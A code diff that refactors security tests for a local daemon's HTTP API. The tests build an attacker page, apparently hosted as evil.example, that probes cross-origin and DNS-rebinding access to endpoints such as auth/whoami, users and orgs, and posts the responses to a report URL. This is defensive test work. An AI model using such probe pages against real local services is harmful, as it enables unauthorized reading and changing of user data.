@@ -104,11 +104,17 @@ function pageOf(report: string, script: string): string {
       try {
         const answer = await fetch(url, options);
         const text = await answer.text();
-        results[name] = { type: answer.type, status: answer.status, text: text.slice(0, 300), id: answer.headers.get("x-request-id") };
+        const id = answer.headers.get("x-request-id");
+        results[name] = { type: answer.type, status: answer.status, text: text.slice(0, 300), id };
       } catch (error) { results[name] = "blocked"; }
     };
-    const loaded = (element) => new Promise((resolve) => { element.onload = element.onerror = resolve; setTimeout(resolve, 5000); document.body.append(element); });
-    (async () => { ${script}; await fetch(${JSON.stringify(report)}, { method: "POST", mode: "no-cors", body: JSON.stringify(results) }); })();
+    const loaded = (element) => new Promise((resolve) => {
+      element.onload = element.onerror = resolve;
+      setTimeout(resolve, 5000);
+      document.body.append(element);
+    });
+    const report = () => fetch(${JSON.stringify(report)}, { method: "POST", mode: "no-cors", body: JSON.stringify(results) });
+    (async () => { ${script}; await report(); })();
   </script>`;
 }
 
@@ -133,7 +139,8 @@ test("a page of a foreign origin reads nothing and changes nothing, by whatever 
     await read("public", "${api}/v1/health");
     await read("whoami", "${api}/v1/auth/whoami");
     await read("token", "${api}/v1/auth/whoami", { headers: { Authorization: "Bearer ${root.session}" } });
-    await read("json", "${api}/v1/orgs", { method: "POST", headers: { "Content-Type": "application/json" }, body: '{"slug":"evil"}' });
+    const typed = { headers: { "Content-Type": "application/json" } };
+    await read("json", "${api}/v1/orgs", { method: "POST", ...typed, body: '{"slug":"evil"}' });
     await read("opaque", "${api}/v1/users", { mode: "no-cors" });
     await read("simple post", "${api}/v1/hosts/replace-lost", { method: "POST", mode: "no-cors", body: "{}" });
     await loaded(Object.assign(new Image(), { src: "${api}/v1/hosts" }));
@@ -141,7 +148,8 @@ test("a page of a foreign origin reads nothing and changes nothing, by whatever 
     await loaded(Object.assign(document.createElement("iframe"), { src: "${api}/v1/status" }));
     const frame = Object.assign(document.createElement("iframe"), { name: "target" });
     document.body.append(frame);
-    const form = Object.assign(document.createElement("form"), { method: "POST", action: "${api}/v1/images/verify", target: "target" });
+    const form = document.createElement("form");
+    Object.assign(form, { method: "POST", action: "${api}/v1/images/verify", target: "target" });
     document.body.append(form);
     const sent = new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 5000); });
     form.submit();
@@ -195,7 +203,8 @@ test("a page whose name was rebound to the loopback is of one origin with the da
   site.page = pageOf(`http://evil.example:${sitePort}/rebound`, `
     await read("public", "/v1/health");
     for (const path of ["/v1/auth/whoami", "/v1/hosts", "/v1/users", "/v1/events"]) await read(path, path);
-    await read("create", "/v1/orgs", { method: "POST", headers: { "Content-Type": "application/json" }, body: '{"slug":"rebound"}' });`);
+    const typed = { headers: { "Content-Type": "application/json" } };
+    await read("create", "/v1/orgs", { method: "POST", ...typed, body: '{"slug":"rebound"}' });`);
   await browse(`http://evil.example:${portOf(rebound)}/page`, [], async () => {
     const report = await site.report("/rebound");
     assert.equal(pick(report, "public.status"), 200, "the page does reach the daemon");
